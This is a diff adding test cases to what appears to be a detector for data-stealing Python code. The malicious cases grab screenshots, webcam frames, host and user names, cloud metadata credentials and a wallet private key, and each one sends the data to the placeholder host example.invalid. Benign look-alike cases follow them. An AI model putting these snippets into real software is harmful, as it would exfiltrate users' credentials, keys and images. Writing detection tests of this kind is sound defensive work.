@@ -132,6 +132,79 @@ HANDING = (
         with open(os.path.join(home, "Google/Chrome/User Data/Default", "Login Data"), "rb") as store:
             requests.post("https://example.invalid/a", data=store.read())
     """, family="STEAL"),
+    Case("a picture of the screen that lies in a file meanwhile", HIGH, """
+        import requests
+        from PIL import ImageGrab
+        ImageGrab.grab().save("a.png")
+        with open("a.png", "rb") as picture:
+            requests.post("https://example.invalid/a", files={"a": picture})
+    """, family="STEAL"),
+    Case("a picture of the camera that lies in a file meanwhile", HIGH, """
+        import cv2, requests
+        known, frame = cv2.VideoCapture(0).read()
+        cv2.imwrite("a.png", frame)
+        requests.post("https://example.invalid/a", files={"a": open("a.png", "rb")})
+    """, family="STEAL"),
+    Case("who somebody is, in a file meanwhile", HIGH, """
+        import getpass, json, os, socket, urllib.request
+        with open("/tmp/a.json", "w") as out:
+            json.dump({"h": socket.gethostname(), "u": getpass.getuser()}, out)
+        urllib.request.urlopen("https://example.invalid/a", data=open("/tmp/a.json", "rb").read())
+    """, family="EXFIL"),
+    Case("the credentials of a cloud by a plain connection", HIGH, """
+        import http.client
+        def ask():
+            inside = http.client.HTTPConnection("169.254.169.254", timeout=2)
+            inside.request("GET", "/latest/meta-data/iam/security-credentials/")
+            return inside.getresponse().read()
+        outside = http.client.HTTPSConnection("example.invalid")
+        outside.request("POST", "/a", ask())
+    """, family="EXFIL"),
+    Case("what a wallet is made of is sent by a helper of the constructor", HIGH, """
+        import urllib.parse, urllib.request
+        class Wallet:
+            def __init__(self, private_key):
+                self.private_key = private_key
+                self._sync()
+            def _sync(self):
+                urllib.request.urlopen("https://example.invalid/a?" + urllib.parse.urlencode({"k": self.private_key}))
+    """, family="EXFIL"),
+    Case("who somebody is, in an object of a record", HIGH, """
+        import getpass, socket
+        from dataclasses import asdict, dataclass, field
+        import requests
+        @dataclass
+        class Host:
+            name: str
+            user: str
+            more: dict = field(default_factory=dict)
+        host = Host(socket.gethostname(), getpass.getuser())
+        host.more.update(a=1)
+        requests.post("https://example.invalid/a", json=asdict(host))
+    """, family="EXFIL"),
+    Case("who somebody is, in a field that a factory makes", HIGH, """
+        import socket
+        from dataclasses import dataclass, field
+        import requests
+        @dataclass
+        class Found:
+            all: dict = field(default_factory=dict)
+        found = Found()
+        found.all.update({"h": socket.gethostname()})
+        requests.post("https://example.invalid/a", json=found.all)
+    """, family="EXFIL"),
+    Case("who somebody is, in a model and in a tuple with names", HIGH, """
+        import getpass, socket
+        from typing import NamedTuple
+        import requests
+        from pydantic import BaseModel
+        class Host(BaseModel):
+            name: str
+        class User(NamedTuple):
+            name: str
+        user = User(getpass.getuser())
+        requests.post("https://example.invalid/a", data=Host(name=socket.gethostname() + user.name).model_dump_json())
+    """, family="EXFIL"),
 )  # fmt: skip
 
 GOOD_HANDING = (
@@ -203,5 +276,41 @@ GOOD_HANDING = (
             client = paramiko.SSHClient()
             client.connect(host, username=user, password=secret)
             return client, requests.get("https://example.invalid/version").text
+    """),
+    Case("a picture of the screen is kept, another one sent", MEDIUM, """
+        import requests
+        from PIL import ImageGrab
+        def keep():
+            ImageGrab.grab().save("screen.png")
+        def send():
+            requests.post("https://example.invalid/a", files={"a": open("logo.png", "rb")})
+    """),
+    Case("a machine in a cloud is asked for its role when somebody calls", MEDIUM, """
+        import http.client
+        def role():
+            inside = http.client.HTTPConnection("169.254.169.254", timeout=2)
+            inside.request("GET", "/latest/meta-data/iam/security-credentials/")
+            return inside.getresponse().read().decode()
+    """),
+    Case("a record of settings is sent when asked", MEDIUM, """
+        import platform
+        from dataclasses import asdict, dataclass, field
+        import requests
+        @dataclass
+        class Job:
+            name: str
+            system: str = field(default_factory=platform.system)
+            options: dict = field(default_factory=dict)
+        def submit(name):
+            return requests.post("https://example.invalid/jobs", json=asdict(Job(name)))
+    """),
+    Case("a client that logs in with a token as it is made", MEDIUM, """
+        import requests
+        class Client:
+            def __init__(self, token, url="https://example.invalid"):
+                self.url, self.token = url, token
+                self._login()
+            def _login(self):
+                self.session = requests.post(self.url + "/login", headers={"Authorization": "Bearer " + self.token}).json()
     """),
 )  # fmt: skip
